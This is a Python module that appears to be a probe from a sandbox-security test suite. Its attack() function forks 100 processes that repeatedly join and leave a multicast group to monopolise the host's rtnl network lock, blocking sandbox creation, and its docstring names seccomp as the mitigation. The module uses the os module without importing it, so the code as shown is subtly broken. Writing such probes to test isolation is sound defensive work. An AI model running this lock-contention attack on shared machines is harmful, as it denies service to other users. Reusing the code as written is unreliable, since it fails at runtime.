"""Change the network configuration all the time.

Technique: joining and leaving a multicast group takes the lock of all network configuration of the machine (rtnl), which
    every new network namespace needs several times: nobody gets a sandbox while a hundred processes queue for it.
Success: groups can be joined and left in the queue of everybody else, a thousand times a second or more.
Stopped by: seccomp
"""
import socket
import time

SECONDS, WORKERS = 1.5, 100


def join_and_leave(number, until):
    membership = bytes([239, 1, 1, number]) + socket.inet_aton("127.0.0.1")
    times = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        while time.monotonic() < until:
            one.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
            one.setsockopt(socket.IPPROTO_IP, socket.IP_DROP_MEMBERSHIP, membership)
            times += 1
    return times


def attack():
    begun = time.monotonic()
    # Once here, so that a refusal shows.
    join_and_leave(200, begun + 0.01)
    reading, writing = os.pipe()
    for number in range(WORKERS):
        if os.fork() == 0:
            try:
                os.write(writing, join_and_leave(number, begun + SECONDS).to_bytes(8, "little"))
            finally:
                os._exit(0)
    for _ in range(WORKERS):
        os.wait()
    times = sum(int.from_bytes(os.read(reading, 8), "little") for _ in range(WORKERS))
    rate = int(2 * times / (time.monotonic() - begun))
    if rate > 1000:
        return f"the machine's network lock was taken {rate} times a second by {WORKERS} processes"


def twin():
    """Servers and clients on loopback, made anew all the time."""
    for _ in range(100):
        with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()):
            pass
